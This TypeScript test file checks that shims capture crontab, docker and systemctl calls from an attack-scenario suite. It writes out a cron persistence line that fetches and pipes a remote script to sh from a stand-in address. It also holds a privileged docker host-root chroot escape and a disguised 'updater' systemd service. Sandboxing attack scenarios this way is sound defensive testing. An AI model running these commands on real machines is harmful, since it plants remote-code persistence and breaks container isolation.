// The scenario suite's crontab/docker/systemctl calls land in shims, never on the machine running the tests.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { installHostShims } from '../helpers/host-shims.js';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'aw-shims-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('host shims', () => {
  const shims = installHostShims(path.join(dir, 'bin'));
  const sh = (cmd: string) => execFileSync('sh', ['-c', cmd], { env: { ...process.env, PATH: shims.path }, encoding: 'utf8' });

  it('the attack scenario\'s crontab line is recorded in the shim, and `crontab -l` reads it back', () => {
    sh("(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://198.51.100.7/c | sh') | crontab -");
    expect(fs.readFileSync(path.join(shims.dir, 'crontab.txt'), 'utf8')).toBe('*/5 * * * * curl -s http://198.51.100.7/c | sh\n');
    expect(sh('crontab -l')).toContain('198.51.100.7');
    expect(sh('command -v crontab').trim()).toBe(path.join(shims.dir, 'crontab'));
  });

  it('docker and systemctl only record their arguments', () => {
    sh('docker run --rm --privileged -v /:/host alpine chroot /host id; systemctl --user enable --now updater.service');
    expect(shims.calls()).toEqual(expect.arrayContaining([
      'docker run --rm --privileged -v /:/host alpine chroot /host id',
      'systemctl --user enable --now updater.service',
    ]));
  });
});
